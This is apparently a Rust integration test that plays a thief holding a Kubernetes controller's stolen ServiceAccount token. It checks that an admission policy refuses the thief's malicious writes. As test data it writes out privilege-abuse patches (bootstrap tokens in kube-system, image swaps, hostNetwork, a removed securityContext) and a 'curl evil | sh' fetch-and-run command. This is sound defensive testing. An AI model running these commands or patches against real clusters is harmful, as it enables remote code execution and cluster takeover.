//! A thief of serve's ServiceAccount token, on the real control plane: a
//! token made with `kubectl create token`, used with `kubectl --token`, as
//! one would use a token read from serve's pod. RBAC lets that account
//! create, patch and delete ConfigMaps, Secrets and workloads in every
//! namespace; the identity guard (deploy/serve/identityguard.yaml) must
//! refuse every write serve does not make, each refusal naming it, and let
//! serve's own writes through. On eff3694, before the guard, every write
//! below went through (the security review's finding 5).

use std::process::{Command, Stdio};

use super::*;

/// The guard every refusal names.
const GUARD: &str = "config-snapshot-identity";

/// kubectl as the holder of a token of serve's account, and nothing else:
/// no kubeconfig, the server and the cluster's CA on the command line.
struct Thief<'a> {
    cp: &'a ControlPlane,
    token: String,
}

impl Thief<'_> {
    fn steal(cp: &ControlPlane) -> Thief<'_> {
        let token = cp.kubectl(&["-n", "config-snapshot", "create", "token", "config-snapshot"]);
        Thief {
            cp,
            token: token.trim().to_string(),
        }
    }

    /// Runs kubectl with the token; `Err` carries what kubectl said.
    fn run(&self, args: &[&str], stdin: Option<&Value>) -> Result<String, String> {
        let ca = self.cp.dir.join("ca.crt");
        let mut child = Command::new(self.cp.bin.join("kubectl"))
            .args(["--kubeconfig", "/dev/null", "--server", &self.cp.url])
            .arg(format!("--certificate-authority={}", ca.display()))
            .arg(format!("--token={}", self.token))
            .args(args)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("kubectl runs");
        if let Some(object) = stdin {
            child
                .stdin
                .take()
                .unwrap()
                .write_all(object.to_string().as_bytes())
                .unwrap();
        }
        drop(child.stdin.take());
        let out = child.wait_with_output().unwrap();
        if out.status.success() {
            Ok(String::from_utf8_lossy(&out.stdout).to_string())
        } else {
            Err(String::from_utf8_lossy(&out.stderr).to_string())
        }
    }

    fn create(&self, ns: &str, object: &Value) -> Result<String, String> {
        self.run(&["-n", ns, "create", "-f", "-"], Some(object))
    }

    fn patch(&self, ns: &str, target: &str, ops: &Value) -> Result<String, String> {
        self.run(
            &["-n", ns, "patch", target, "--type", "json", "-p", &ops.to_string()],
            None,
        )
    }
}

/// `what` was refused, by `guard`, saying `why`.
fn refused_by(guard: &str, what: &str, answer: Result<String, String>, why: &str) {
    match answer {
        Ok(out) => panic!("serve's stolen token {what}: {out}"),
        Err(e) => assert!(
            e.contains(&format!("ValidatingAdmissionPolicy '{guard}'")) && e.contains(why),
            "{what}: not refused by {guard} ({why}): {e}"
        ),
    }
}

fn refused(what: &str, answer: Result<String, String>, why: &str) {
    refused_by(GUARD, what, answer, why);
}

/// A snapshot of ConfigMap `source`, as serve makes one (name, labels,
/// annotations, immutability); its signature is made up, which the guard
/// cannot tell (serve can: it would never sweep or reuse it).
fn snapshot(source: &str) -> Value {
    json!({"apiVersion": "v1", "kind": "ConfigMap",
           "metadata": {"name": format!("{source}-0123456789"),
                        "labels": {"app.kubernetes.io/managed-by": "config-snapshot",
                                   "config-snapshot.io/source": source},
                        "annotations": {"config-snapshot.io/source-name": source,
                                        "config-snapshot.io/source-resource-version": "1",
                                        "config-snapshot.io/content-hash": "0".repeat(64),
                                        "config-snapshot.io/signature": "v1:made-up"}},
           "immutable": true, "data": {"k": "v"}})
}

/// A Deployment whose one container reads ConfigMap `app` and Secret
/// `creds` every way a template can, with a securityContext.
fn web() -> Value {
    json!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "web"},
        "spec": {"replicas": 0, "selector": {"matchLabels": {"app": "web"}},
            "template": {"metadata": {"labels": {"app": "web"}}, "spec": {
                "containers": [{"name": "main", "image": "nginx:1",
                    "securityContext": {"runAsNonRoot": true, "allowPrivilegeEscalation": false},
                    "env": [{"name": "MODE", "valueFrom": {"configMapKeyRef": {"name": "app", "key": "mode"}}}],
                    "envFrom": [{"secretRef": {"name": "creds"}}],
                    "volumeMounts": [{"name": "config", "mountPath": "/etc/app"}]}],
                "volumes": [{"name": "config", "configMap": {"name": "app", "defaultMode": 420}},
                            {"name": "both", "projected": {"sources": [{"secret": {"name": "creds"}}]}}]}}}})
}

/// [`web`] named `name`, carrying `annotations` on itself.
fn web_as(name: &str, annotations: Value) -> Value {
    let mut web = web();
    web["metadata"] = json!({"name": name, "annotations": annotations});
    web
}

/// An annotation of config-snapshot's that opts nothing in: the workload is
/// marked, as serve's records and mapping leave one, and the policy leaves
/// it be, so what reaches the guard is the thief's patch as sent.
fn marked() -> Value {
    json!({"config-snapshot.io/story": "marked"})
}

/// A Deployment with 30 containers of 10 references each, and 100
/// volumes: the guard's expressions stay within the API server's CEL
/// cost limits on a template this large.
fn large() -> Value {
    let containers: Vec<Value> = (0..30)
        .map(|c| {
            let env: Vec<Value> = (0..10)
                .map(|e| json!({"name": format!("E{e}"), "valueFrom": {"configMapKeyRef": {"name": format!("cm{e}"), "key": "k"}}}))
                .collect();
            json!({"name": format!("c{c}"), "image": "nginx:1", "command": ["sh", "-c", "exec nginx"], "env": env,
                   "envFrom": [{"secretRef": {"name": "creds"}}]})
        })
        .collect();
    let volumes: Vec<Value> = (0..100)
        .map(|v| {
            json!({"name": format!("v{v}"), "projected": {"sources": [
            {"configMap": {"name": format!("cm{}", v % 10)}}, {"secret": {"name": "creds"}}]}})
        })
        .collect();
    json!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "large", "annotations": marked()},
        "spec": {"replicas": 0, "selector": {"matchLabels": {"app": "large"}},
            "template": {"metadata": {"labels": {"app": "large"}},
                         "spec": {"containers": containers, "volumes": volumes}}}})
}

pub fn stolen_token_story(cp: &ControlPlane) {
    let ns = "attack-identity";
    cp.namespace(ns);
    let thief = Thief::steal(cp);

    // Outside the namespaces serve serves: nothing, not even a snapshot.
    let bootstrap = json!({"apiVersion": "v1", "kind": "Secret", "type": "bootstrap.kubernetes.io/token",
        "metadata": {"name": "bootstrap-token-abcdef"},
        "stringData": {"token-id": "abcdef", "token-secret": "0123456789abcdef", "usage-bootstrap-authentication": "true"}});
    let outside = "writes only in the namespaces it serves";
    refused(
        "made a bootstrap token in kube-system",
        thief.create("kube-system", &bootstrap),
        outside,
    );
    refused(
        "made a ConfigMap in kube-system",
        thief.create("kube-system", &config_map("planted", json!({"k": "v"}))),
        outside,
    );
    refused(
        "made a snapshot in kube-system",
        thief.create("kube-system", &snapshot("app")),
        outside,
    );
    refused(
        "made a Secret in serve's own namespace",
        thief.create(
            "config-snapshot",
            &json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "other"}}),
        ),
        outside,
    );
    cp.apply("kube-system", &web());
    refused(
        "changed a kube-system Deployment's image",
        thief.patch(
            "kube-system",
            "deployment/web",
            &json!([{"op": "replace", "path": "/spec/template/spec/containers/0/image", "value": "evil:1"}]),
        ),
        outside,
    );
    cp.kubectl(&["-n", "kube-system", "delete", "deployment", "web"]);

    // In a namespace it serves: only snapshots.
    refused(
        "made a mutable, unlabelled Secret",
        thief.create(
            ns,
            &json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "plain"},
                                 "stringData": {"k": "v"}}),
        ),
        "creates, changes and deletes only its snapshots",
    );
    let mut mutable = snapshot("app");
    mutable["immutable"] = json!(false);
    refused(
        "made a mutable snapshot",
        thief.create(ns, &mutable),
        "only its snapshots",
    );
    let mut misnamed = snapshot("app");
    misnamed["metadata"]["name"] = json!("admin-0123456789");
    refused(
        "made a snapshot named for another source",
        thief.create(ns, &misnamed),
        "only its snapshots",
    );
    let mut token = snapshot("app");
    token["kind"] = json!("Secret");
    token["type"] = json!("bootstrap.kubernetes.io/token");
    token["data"] = json!({"token-id": "YWJjZGVm", "token-secret": "MDEyMzQ1Njc4OWFiY2RlZg=="});
    token["metadata"]["annotations"]
        .as_object_mut()
        .unwrap()
        .remove("config-snapshot.io/content-hash");
    refused(
        "made a bootstrap token shaped as a snapshot",
        thief.create(ns, &token),
        "never makes a Secret the API server mints credentials into",
    );
    cp.apply(ns, &config_map("app", json!({"mode": "blue"})));
    refused(
        "deleted a user's ConfigMap",
        thief.run(&["-n", ns, "delete", "configmap", "app"], None),
        "only its snapshots",
    );
    // What serve makes goes through: a labelled, immutable snapshot, its
    // use marked, and deleted.
    thief
        .create(ns, &snapshot("app"))
        .expect("a snapshot as serve makes one");
    thief
        .run(
            &[
                "-n",
                ns,
                "annotate",
                "configmap",
                "app-0123456789",
                "config-snapshot.io/last-used-at=2030-01-01T00:00:00Z",
            ],
            None,
        )
        .expect("its use marked");
    refused(
        "relabelled a snapshot",
        thief.run(&["-n", ns, "label", "configmap", "app-0123456789", "team=other"], None),
        "changes a snapshot only in its owners and annotations",
    );

    // A marked workload: its config references move, between a source's
    // names; nothing else in it.
    cp.apply(ns, &web_as("web", marked()));
    let at = "/spec/template/spec/containers/0";
    for (what, ops, why) in [
        (
            "changed an image",
            json!([{"op": "replace", "path": format!("{at}/image"), "value": "evil:1"}]),
            "changes nothing in a pod spec but its config references",
        ),
        (
            "added a container",
            json!([{"op": "add", "path": "/spec/template/spec/containers/-", "value": {"name": "x", "image": "evil:1"}}]),
            "changes nothing in a pod spec",
        ),
        (
            "changed a volume's other fields",
            json!([{"op": "replace", "path": "/spec/template/spec/volumes/0/configMap/defaultMode", "value": 511}]),
            "changes nothing in a pod spec",
        ),
        (
            "removed a securityContext",
            json!([{"op": "remove", "path": format!("{at}/securityContext")}]),
            "changes nothing in a pod spec",
        ),
        (
            "set hostNetwork",
            json!([{"op": "add", "path": "/spec/template/spec/hostNetwork", "value": true}]),
            "changes nothing in a pod spec",
        ),
        (
            "repointed a Secret reference at an unrelated Secret",
            json!([{"op": "replace", "path": format!("{at}/envFrom/0/secretRef/name"), "value": "admin-token"}]),
            "moves a config reference only between a source and its snapshots",
        ),
        (
            "repointed a Secret reference at another source's snapshot",
            json!([{"op": "replace", "path": "/spec/template/spec/volumes/1/projected/sources/0/secret/name",
                    "value": "admin-0123456789"}]),
            "moves a config reference only between a source and its snapshots",
        ),
        (
            "scaled it",
            json!([{"op": "replace", "path": "/spec/replicas", "value": 5}]),
            "a workload only in its config references and annotations",
        ),
        (
            "changed a user's annotation",
            json!([{"op": "add", "path": "/metadata/annotations/team", "value": "other"}]),
            "changes only config-snapshot.io/ annotations",
        ),
    ] {
        refused(what, thief.patch(ns, "deployment/web", &ops), why);
    }
    // serve's own moves go through: to a source's snapshots, with
    // config-snapshot.io/ annotations on the template and the workload
    // (not the policy's own, which its review would act on: every story
    // proves serve's real patches go through).
    thief
        .patch(
            ns,
            "deployment/web",
            &json!([
                {"op": "replace", "path": format!("{at}/env/0/valueFrom/configMapKeyRef/name"), "value": "app-0123456789"},
                {"op": "replace", "path": "/spec/template/spec/volumes/0/configMap/name", "value": "app-0123456789"},
                {"op": "replace", "path": format!("{at}/envFrom/0/secretRef/name"), "value": "creds-abcdef0123"},
                {"op": "replace", "path": "/spec/template/spec/volumes/1/projected/sources/0/secret/name",
                 "value": "creds-abcdef0123"},
                {"op": "add", "path": "/spec/template/metadata/annotations",
                 "value": {"config-snapshot.io/story": "moved"}},
                {"op": "add", "path": "/metadata/annotations/config-snapshot.io~1story", "value": "moved"}
            ]),
        )
        .expect("serve's own move of references");
    // ...and back to the sources, or on to another snapshot of theirs.
    thief
        .patch(
            ns,
            "deployment/web",
            &json!([
                {"op": "replace", "path": "/spec/template/spec/volumes/0/configMap/name", "value": "app"},
                {"op": "replace", "path": format!("{at}/envFrom/0/secretRef/name"), "value": "creds-9876543210"}
            ]),
        )
        .expect("a move back, and between snapshots");

    // A large template: a move of all its 400 references is judged
    // within the CEL cost limits, and a change of one image in it is
    // still refused.
    cp.kubectl_warned(&["-n", ns, "create", "-f", "-"], Some(&large().to_string()))
        .unwrap_or_else(|e| panic!("{e}"));
    let mut moves: Vec<Value> = (0..30)
        .flat_map(|c| {
            (0..10).map(move |e| {
                json!({"op": "replace", "path": format!("/spec/template/spec/containers/{c}/env/{e}/valueFrom/configMapKeyRef/name"),
                       "value": format!("cm{e}-0123456789")})
            })
        })
        .collect();
    moves.extend((0..100).map(|v| {
        json!({"op": "replace", "path": format!("/spec/template/spec/volumes/{v}/projected/sources/1/secret/name"),
               "value": "creds-abcdef0123"})
    }));
    let mut tampered = moves.clone();
    tampered.push(json!({"op": "replace", "path": "/spec/template/spec/containers/29/image", "value": "evil:1"}));
    refused(
        "changed an image among 400 moves",
        thief.patch(ns, "deployment/large", &json!(tampered)),
        "changes nothing in a pod spec",
    );
    thief
        .patch(ns, "deployment/large", &json!(moves))
        .expect("400 moves, within the cost limits");

    never_opted_in(cp, &thief, ns);
    opted_in(cp, &thief, ns);

    // Its webhook configuration: nothing but the door's path, not even its
    // metadata (an ownerReference to nothing would have the garbage
    // collector delete it: the security review's finding 9).
    refused_by(
        "config-snapshot-webhook",
        "gave its webhook configuration an owner that does not exist",
        thief.run(
            &["patch", "mutatingwebhookconfiguration", "config-snapshot", "--type", "merge", "-p",
              r#"{"metadata":{"ownerReferences":[{"apiVersion":"v1","kind":"ConfigMap","name":"gone","uid":"00000000-0000-0000-0000-000000000000"}]}}"#],
            None,
        ),
        "may change only the door's path",
    );
    refused_by(
        "config-snapshot-webhook",
        "labelled its webhook configuration",
        thief.run(
            &["label", "mutatingwebhookconfiguration", "config-snapshot", "team=other"],
            None,
        ),
        "may change only the door's path",
    );
    cp.kubectl(&["delete", "namespace", ns, "--wait=false"]);
}

/// Refused as a workload serve's account may not touch.
const NOT_SERVES: &str = "changes only a workload that already carries a config-snapshot.io/ annotation";

/// A workload that carries no annotation of config-snapshot's is not
/// serve's (with the shipped settings' defaults off): the token can neither
/// opt it in nor point it at a snapshot of its making. On c855942^, before
/// the guard held serve to marked workloads, each went through. With the
/// guard as deploy/components/by-default makes it (every workload is then
/// serve's), the move goes through.
fn never_opted_in(cp: &ControlPlane, thief: &Thief, ns: &str) {
    // Each attack on a fresh copy: one that went through (before the
    // guard held it) must not change what the next one meets.
    let fresh = || {
        cp.kubectl(&["-n", ns, "delete", "deployment", "plain", "--ignore-not-found"]);
        cp.apply(ns, &web_as("plain", json!({})));
    };
    let at = "/spec/template/spec/containers/0";
    let repoint = json!([{"op": "replace", "path": format!("{at}/env/0/valueFrom/configMapKeyRef/name"),
                          "value": "app-0123456789"}]);
    for (what, ops) in [
        (
            "opted a workload in",
            json!([{"op": "add", "path": "/metadata/annotations/config-snapshot.io~1snapshot", "value": "*"}]),
        ),
        (
            "marked a workload's template",
            json!([{"op": "add", "path": "/spec/template/metadata/annotations",
                    "value": {"config-snapshot.io/snapshots": "{}"}}]),
        ),
        (
            "pointed a workload that never opted in at its snapshot",
            repoint.clone(),
        ),
    ] {
        fresh();
        refused(what, thief.patch(ns, "deployment/plain", &ops), NOT_SERVES);
    }

    // Installed to snapshot or watch by default: serve's account moves
    // the unmarked workload's references, as serve does when its source
    // changes. (The shipped guard is put back after.)
    let shipped: Value = yaml("deploy/serve/identityguard.yaml").remove(0);
    let mut by_default = shipped.clone();
    let ops: json_patch::Patch = serde_json::from_value(
        serde_yaml_ng::from_str::<Value>(
            yaml("deploy/components/by-default/kustomization.yaml")[0]["patches"]
                .as_array()
                .unwrap()
                .iter()
                .find(|p| p["target"]["kind"] == "ValidatingAdmissionPolicy")
                .expect("the component opens the guard")["patch"]
                .as_str()
                .unwrap(),
        )
        .unwrap(),
    )
    .unwrap();
    json_patch::patch(&mut by_default, &ops).expect("the component's patch applies");
    cp.apply("default", &by_default);
    eventually("the by-default guard in force", 30, || {
        thief.patch(ns, "deployment/plain", &repoint).ok()
    });
    cp.apply("default", &shipped);
    let back = json!([{"op": "replace", "path": format!("{at}/env/0/valueFrom/configMapKeyRef/name"), "value": "app"}]);
    eventually("the shipped guard back in force", 30, || {
        thief
            .patch(ns, "deployment/plain", &back)
            .err()
            .filter(|e| e.contains(NOT_SERVES))
    });
}

/// A workload that opted in is serve's to roll, and the user's still: the
/// token cannot change its opt-in or how it rolls (an approval forged, the
/// approve mode made roll), nor anything in its pods but their references
/// (image, command, account). serve's own writes go through: a change
/// recorded as pending, and, approved, rolled with the approval taken off.
/// The opt-in rows went through on c855942^; the pod rows were refused
/// already.
fn opted_in(cp: &ControlPlane, thief: &Thief, ns: &str) {
    cp.apply(
        ns,
        &json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "creds"}, "stringData": {"k": "v"}}),
    );
    let fresh = || {
        cp.kubectl(&["-n", ns, "delete", "deployment", "held", "--ignore-not-found"]);
        cp.apply(
            ns,
            &web_as(
                "held",
                json!({"config-snapshot.io/watch": "configmap/app", "config-snapshot.io/watch-mode": "approve"}),
            ),
        );
    };
    fresh();
    let reads = || {
        cp.get(ns, "deployment", "held").unwrap()["spec"]["template"]["spec"]["containers"][0]["env"][0]["valueFrom"]
            ["configMapKeyRef"]["name"]
            .as_str()
            .unwrap()
            .to_string()
    };
    let first = reads();
    assert!(first.starts_with("app-"), "admitted onto a snapshot: {first}");
    let annotation = |key: &str| {
        cp.get(ns, "deployment", "held").unwrap()["metadata"]["annotations"][key]
            .as_str()
            .map(str::to_string)
    };
    let at = "/spec/template/spec/containers/0";
    let opt_in = "never sets, changes or takes off a workload's opt-in";
    let pod = "changes nothing in a pod spec but its config references";
    for (what, ops, why) in [
        (
            "widened its watch",
            json!([{"op": "replace", "path": "/metadata/annotations/config-snapshot.io~1watch", "value": "*"}]),
            opt_in,
        ),
        (
            "took its watch off",
            json!([{"op": "remove", "path": "/metadata/annotations/config-snapshot.io~1watch"}]),
            opt_in,
        ),
        (
            "made its approve mode roll",
            json!([{"op": "replace", "path": "/metadata/annotations/config-snapshot.io~1watch-mode", "value": "roll"}]),
            opt_in,
        ),
        (
            "set a rollout window",
            json!([{"op": "add", "path": "/metadata/annotations/config-snapshot.io~1rollout-window",
                    "value": "0 0 * * * for 24h"}]),
            opt_in,
        ),
        (
            "opted it out",
            json!([{"op": "add", "path": "/metadata/annotations/config-snapshot.io~1exclude", "value": "*"}]),
            opt_in,
        ),
        (
            "approved a change",
            json!([{"op": "add", "path": "/metadata/annotations/config-snapshot.io~1approve",
                    "value": format!("configmap/app={first}")}]),
            "only takes approvals off",
        ),
        (
            "changed its image",
            json!([{"op": "replace", "path": format!("{at}/image"), "value": "evil:1"}]),
            pod,
        ),
        (
            "gave it a command",
            json!([{"op": "add", "path": format!("{at}/command"), "value": ["sh", "-c", "curl evil | sh"]}]),
            pod,
        ),
        (
            "gave its pods another account",
            json!([{"op": "add", "path": "/spec/template/spec/serviceAccountName", "value": "admin"}]),
            pod,
        ),
    ] {
        fresh();
        refused(what, thief.patch(ns, "deployment/held", &ops), why);
    }

    // serve's own: an edit recorded as pending (serve's write), approved
    // by the user, rolled and the approval taken off (serve's write).
    cp.apply(ns, &config_map("app", json!({"mode": "green"})));
    let pending = eventually("the change recorded as pending", 60, || {
        annotation("config-snapshot.io/pending")
    });
    cp.kubectl(&[
        "-n",
        ns,
        "annotate",
        "deployment",
        "held",
        &format!("config-snapshot.io/approve={pending}"),
    ]);
    let next = pending.strip_prefix("configmap/app=").unwrap().to_string();
    eventually("the approved change rolled by serve, its approval spent", 60, || {
        (reads() == next && annotation("config-snapshot.io/approve").is_none()).then_some(())
    });
    assert_eq!(
        annotation("config-snapshot.io/watch-mode").as_deref(),
        Some("approve"),
        "the user's opt-in kept"
    );
}

/// The namespaced install's guard (deploy/components/namespaced): with
/// the cluster-wide grant still bound, so that only the guard stands
/// between the token and a namespace outside `team-a` and `team-b`.
pub fn namespaced_guard_story(cp: &ControlPlane, guard: &Value) {
    cp.apply("default", guard);
    let thief = Thief::steal(cp);
    eventually("the namespaced guard in force", 30, || {
        thief
            .create("team-c", &snapshot("probe"))
            .err()
            .filter(|e| e.contains(GUARD))
    });
    refused(
        "made a snapshot outside the listed namespaces",
        thief.create("team-c", &snapshot("app")),
        "writes only in the namespaces it serves",
    );
    thief.create("team-a", &snapshot("app")).expect("a snapshot in team-a");
    cp.kubectl(&["-n", "team-a", "delete", "configmap", "app-0123456789"]);
}
